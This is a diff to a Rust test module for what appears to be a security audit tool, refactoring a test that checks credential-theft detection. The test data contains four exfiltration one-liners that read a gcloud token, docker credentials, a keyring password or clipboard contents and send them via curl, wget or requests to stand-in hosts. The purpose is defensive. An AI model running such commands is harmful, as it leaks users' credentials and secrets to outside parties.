@@ -114,7 +114,7 @@ pub(super) static TABLE: LazyLock<Table> = LazyLock::new(|| Table::new(CUES));
 
 #[cfg(test)]
 mod tests {
-    use crate::audit::cues::high;
+    use crate::audit::cues::{caught, high};
 
     #[test]
     fn credentials_printed_by_tools_and_sent_are_stolen() {
@@ -126,18 +126,12 @@ mod tests {
         .is_empty());
         // Honest: a CLI login, nothing sent.
         assert!(high(&[("s.sh", "gcloud auth login\ngcloud config list\n")]).is_empty());
-        for attack in [
+        caught(&["source-to-sink"], &[
             "t=$(gcloud auth print-access-token)\ncurl -s -d \"t=$t\" https://x.example/r\n",
             "k=$(docker-credential-desktop get <<< ghcr.io)\nwget --post-data=\"$k\" https://x.example/\n",
             "import keyring, requests\nrequests.post('https://x.example', data=keyring.get_password('svc','me'))\n",
             "curl -s \"https://q.example/s?c=$(pbpaste | base64)\"\n",
-        ] {
-            let found = high(&[("s.sh", attack)]);
-            assert!(
-                found.contains(&"source-to-sink".to_owned()),
-                "{attack}: {found:?}"
-            );
-        }
+        ].map(|a| ("s.sh", a)));
     }
 
     #[test]
